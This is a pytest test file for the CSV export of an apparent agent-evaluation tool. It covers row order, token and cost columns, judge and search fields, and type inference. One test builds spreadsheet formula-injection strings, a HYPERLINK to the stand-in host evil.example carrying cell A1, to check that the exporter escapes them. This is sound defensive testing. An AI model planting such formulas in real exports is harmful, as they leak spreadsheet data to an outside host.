from __future__ import annotations

import csv
import json
from io import BytesIO, StringIO
from typing import TYPE_CHECKING

import pyarrow.csv as pa_csv
import pytest
from exports.exported import Ended, make_source
from rooms.records_for_tests import make_record, make_searching

from pytest_searchlight.domain import (
    CheckOutcome,
    Cost,
    JudgeCost,
    RunRecord,
    SearchFacts,
    Sign,
    Usage,
    VerdictLine,
)
from pytest_searchlight.exports.columns import COLUMNS, describe_columns
from pytest_searchlight.exports.csv_rows import encode_csv

if TYPE_CHECKING:
    from pytest_searchlight.exports import RowSource


def read_csv(source: RowSource) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(encode_csv(source).decode(), newline=""), strict=True))


def read_row(record: RunRecord) -> dict[str, str]:
    (row,) = read_csv(make_source(record))
    return row


def test_every_planned_run_has_a_row_in_the_order_of_the_plan(ended: Ended) -> None:
    rows = read_csv(ended.source)
    assert [row["run_id"] for row in rows] == [record.run_id for record in ended.records]
    assert [row["status"] for row in rows] == [record.status for record in ended.records]


def test_a_pass_rate_can_be_computed_from_two_columns(ended: Ended) -> None:
    counted = [row for row in read_csv(ended.source) if row["counted"] == "true"]
    passes = sum(row["passed"] == "true" for row in counted)
    summary = json.loads((ended.folder / "summary.json").read_bytes())["counts"]
    assert (passes, len(counted)) == (summary["passes"], summary["graded"])


def test_what_is_unknown_is_empty_and_what_is_none_is_0(ended: Ended) -> None:
    rows = {row["agent"]: row for row in read_csv(ended.source) if row["task"] == "sky"}
    never_made, made = rows["unfit"], rows["right"]
    assert (never_made["total_tokens"], never_made["passed"], never_made["started_at"]) == ("", "", "")
    assert (made["total_tokens"], made["provider_calls"], made["searches"]) == ("0", "0", "0")


def test_numbers_stand_as_they_are_in_the_rows() -> None:
    row = read_row(
        make_record(
            usage=Usage(input_tokens=10, cached_input_tokens=3, output_tokens=5),
            provider_latencies_s=(0.5, 1.25),
            started_at="2026-11-30T12:00:00.250+00:00",
        )
    )
    assert (row["input_tokens"], row["cached_input_tokens"], row["total_tokens"]) == ("10", "3", "18")
    assert (row["reasoning_tokens"], row["agent_usd"], row["total_usd"]) == ("", "0.25", "0.25")
    assert json.loads(row["provider_latencies_s"]) == [0.5, 1.25]
    assert row["started_at"] == "2026-11-30T12:00:00.250000+00:00"


def test_checks_are_counted_by_outcome_and_listed() -> None:
    verdicts = tuple(
        VerdictLine(kind="value-match", target=f"/{outcome}", outcome=outcome)
        for outcome in (CheckOutcome.PASS, CheckOutcome.PASS, CheckOutcome.MISSING)
    )
    row = read_row(make_record(verdicts=verdicts))
    assert (row["checks"], row["checks_pass"], row["checks_wrong"], row["checks_missing"]) == tuple("3201")
    assert [verdict["target"] for verdict in json.loads(row["verdicts"])] == ["/pass", "/pass", "/missing"]


def test_how_a_run_searched_and_what_its_judge_took_are_columns() -> None:
    judge = JudgeCost(
        judge="lexical", model_name=None, usage=Usage(input_tokens=1, output_tokens=2), usd=None
    )
    searching = make_searching(signs=(Sign(kind="task-text", call=0), Sign(kind="task-text", call=2)))
    row = read_row(make_record(searching=searching, judging=judge))
    assert (row["flagged"], row["signs"]) == ("true", '["task-text"]')
    assert (row["judge"], row["judge_tokens"], row["judge_usd"]) == ("lexical", "3", "")
    assert {row[name] for name in ("searches", "access", "flagged")} != {""}
    unknown = read_row(make_record())
    assert {unknown[name] for name in ("searches", "access", "flagged", "signs", "judge")} == {""}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_text_that_a_spreadsheet_would_run_is_only_text(start: str) -> None:
    formula = f'{start}HYPERLINK("https://evil.example/?" & A1)'
    assert read_row(make_record(reason=formula))["reason"] == f"'{formula}"


def test_text_of_all_kinds_survives_the_way_there_and_back() -> None:
    reason = 'quoted "twice", a comma\nand a second line; å, 漢, 🔦'
    assert read_row(make_record(reason=reason))["reason"] == reason


def test_what_no_table_can_hold_is_replaced(ended: Ended) -> None:
    row = next(row for row in read_csv(ended.source) if row["agent"] == "odd-broken")
    assert row["reason"].startswith("lone ? and � and �[31m and �")


def test_lines_end_as_rfc_4180_says() -> None:
    content = encode_csv(make_source())
    assert content.count(b"\r\n") == content.count(b"\n") == 2


def test_a_reader_that_guesses_types_guesses_right(ended: Ended) -> None:
    table = pa_csv.read_csv(
        BytesIO(encode_csv(ended.source)), parse_options=pa_csv.ParseOptions(newlines_in_values=True)
    )
    assert table.num_rows == len(ended.records)
    types = {name: str(table.schema.field(name).type) for name in table.schema.names}
    assert (types["passed"], types["control"], types["attempts"]) == ("bool", "bool", "int64")
    assert (types["duration_s"], types["total_tokens"]) == ("double", "int64")
    assert types["started_at"].startswith("timestamp[")


def test_every_column_is_explained() -> None:
    lines = list(describe_columns())
    assert [line.split()[0] for line in lines] == [column.name for column in COLUMNS]
    assert len({column.name for column in COLUMNS}) == len(COLUMNS)
    assert any("duration_s" in line and "[s]" in line for line in lines)


def test_every_field_of_a_row_has_a_column_of_its_name() -> None:
    flat = {name for record in (RunRecord, Usage, Cost, SearchFacts) for name in record.model_fields}
    nested = {"schema_version", "usage", "cost", "searching", "judging"}
    assert flat - nested <= {column.name for column in COLUMNS}
